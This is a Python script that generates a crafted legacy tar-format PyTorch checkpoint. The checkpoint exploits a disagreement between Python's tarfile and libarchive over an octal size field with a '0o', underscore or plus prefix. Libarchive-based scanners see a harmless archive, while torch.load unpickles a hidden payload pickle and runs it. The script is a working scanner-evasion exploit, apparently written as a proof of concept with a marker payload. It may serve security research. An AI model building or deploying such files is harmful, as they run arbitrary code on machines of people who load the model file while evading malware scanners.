#!/usr/bin/python3
"""Legacy (tar) torch checkpoint, three tar headers as libarchive reads them, two as Python's tarfile does.
  header 0: 'tensors', a normal member (libarchive's format bid validates only this first header)
  header 1: 'storages', size field b"0o000001000\\0": Python's tarfile parses it with int(s, 8), which
            accepts the 0o prefix -> 512 bytes; libarchive's tar_atol8 stops at 'o' -> 0 bytes.
  block 2:  Python: the 512 bytes of 'storages'; libarchive: a header whose name field is the payload pickle.
  then:     'pickle', a benign member both readers see (so the file scans like any legacy tar).
torch.load -> _legacy_load -> tarfile -> tar.extract('storages') -> pickle.load runs it.
Usage: tar_octal_hidden2.py OUT MARKER [0o|underscore|plus]"""
import sys, pickle
from tarblocks import payload
def header(name, size_field, typeflag=b'0'):
    h = bytearray(512)
    h[0:len(name)] = name
    h[100:108] = b'0000644\0'; h[108:116] = b'0000000\0'; h[116:124] = b'0000000\0'
    h[124:136] = size_field
    h[136:148] = b'00000000000\0'
    h[156:157] = typeflag
    h[257:263] = b'ustar\0'; h[263:265] = b'00'
    h[148:156] = b' ' * 8
    h[148:156] = b'%06o\0 ' % sum(h)
    return bytes(h)
def member(name, data):
    return header(name, b'%011o\0' % len(data)) + data + b'\0' * ((-len(data)) % 512)
def build(marker, style='0o'):
    p = payload(marker)
    assert len(p) < 100
    inner = header(p, b'00000000000\0')
    size = {'0o': b'0o%09o\0', 'underscore': b'0000_%06o\0', 'plus': b'+%010o\0'}[style] % len(inner)
    assert len(size) == 12
    return (member(b'tensors', pickle.dumps(0, protocol=2)) + header(b'storages', size) + inner
            + member(b'pickle', pickle.dumps({}, protocol=2)) + b'\0' * 1024)
if __name__ == '__main__':
    open(sys.argv[1], 'wb').write(build(sys.argv[2], sys.argv[3] if len(sys.argv) > 3 else '0o'))
